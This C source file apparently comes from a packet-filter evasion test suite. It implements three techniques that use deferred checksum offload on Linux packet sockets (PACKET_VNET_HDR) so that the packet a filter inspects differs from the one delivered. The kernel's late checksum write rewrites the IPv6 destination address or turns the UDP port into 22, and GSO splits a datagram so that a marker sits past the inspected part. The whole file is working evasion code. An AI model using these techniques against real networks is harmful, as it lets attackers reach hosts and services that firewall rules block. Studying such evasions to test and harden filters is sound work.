// SPDX-License-Identifier: Apache-2.0
// Unfinished checksums: a packet socket may ask the kernel to write one later (PACKET_VNET_HDR), anywhere it likes. The
// packet that is judged goes to a friend; the "checksum" that the last device writes is another destination.
#include "attack.h"

#include <linux/if_packet.h>
#include <linux/virtio_net.h>

#ifndef VIRTIO_NET_HDR_GSO_UDP_L4
#define VIRTIO_NET_HDR_GSO_UDP_L4 5
#endif

static int deferred(const struct target *to, const struct packet *p, uint16_t type, struct virtio_net_hdr header) {
    uint8_t frame[2048];
    size_t at = sizeof header;
    int fd = socket(AF_PACKET, SOCK_RAW, 0), on = 1;
    if (fd < 0) return cannot("packet socket");
    if (setsockopt(fd, SOL_PACKET, PACKET_VNET_HDR, &on, sizeof on)) return cannot("PACKET_VNET_HDR");
    memcpy(frame, &header, sizeof header);
    at += ethernet(frame + at, to, type);
    memcpy(frame + at, p->bytes, p->length);
    struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(to->interface), .sll_halen = 6};
    link.sll_protocol = htons(type);
    memcpy(link.sll_addr, to->gateway, 6);
    return sendto(fd, frame, at + p->length, 0, (struct sockaddr *)&link, sizeof link) < 0 ? fail("sendto") : SENT;
}

// Makes the sum from `start` on come out as `wanted`, by the last two bytes of the packet.
static void steer(struct packet *p, size_t start, uint16_t wanted) {
    uint8_t zero[2] = {0};
    add(p, zero, 2);
    uint32_t have = (uint16_t)~sum(p->bytes + start, p->length - start, 0), want = (uint16_t)~wanted;
    put16(p->bytes + p->length - 2, have <= want ? want - have : want + 0xffff - have);
}

// The last two bytes of the IPv6 destination become those of the neighbour of the friend.
static int address(struct target *to) {
    struct packet p;
    uint16_t last;
    udp6(&p, to, &to->own6.sin6_addr, &to->friend6.sin6_addr, 64);
    put16(p.bytes + 4, (unsigned)(p.length - 40 + 2));
    put16(p.bytes + 44, (unsigned)(p.length - 40 + 2));
    memcpy(&last, to->friend6.sin6_addr.s6_addr + 14, 2);
    steer(&p, 38, (uint16_t)(ntohs(last) ^ 0xff00));
    return deferred(to, &p, 0x86dd, (struct virtio_net_hdr){.flags = VIRTIO_NET_HDR_F_NEEDS_CSUM, .csum_start = 14 + 38, .csum_offset = 0});
}

// The port: a service of the friend which no rule allows.
static int port(struct target *to) {
    struct packet p;
    udp4(&p, to, to->own4.sin_addr, to->friend4.sin_addr, 0);
    put16(p.bytes + 2, (unsigned)p.length + 2);
    put16(p.bytes + 24, (unsigned)p.length + 2 - 20);
    put16(p.bytes + 10, 0), put16(p.bytes + 10, sum(p.bytes, 20, 0));
    steer(&p, 20, 22);
    return deferred(to, &p, 0x0800, (struct virtio_net_hdr){.flags = VIRTIO_NET_HDR_F_NEEDS_CSUM, .csum_start = 14 + 20, .csum_offset = 2});
}

// A long datagram which the kernel cuts only at the last device; the mark is in its second half.
static int offloaded(struct target *to) {
    struct packet p;
    uint8_t body[8 + 128] = {0};
    struct header4 h = {.from = to->own4.sin_addr, .to = to->v4.sin_addr, .protocol = IPPROTO_UDP};
    udp_body(body, to, PORT);
    put16(body + 4, sizeof body);
    memset(body + 8, '_', 128);
    memcpy(body + 8 + 64, to->mark, MARK_BYTES);
    ip4(&p, &h, body, sizeof body);
    return deferred(to, &p, 0x0800, (struct virtio_net_hdr){.flags = VIRTIO_NET_HDR_F_NEEDS_CSUM, .csum_start = 34, .csum_offset = 6,
                                     .gso_type = VIRTIO_NET_HDR_GSO_UDP_L4, .gso_size = 64, .hdr_len = 42});
}

const struct technique checksum_techniques[] = {
    {"checksum-address", address}, {"checksum-port", port}, {"offloaded", offloaded}, {0, 0},
};
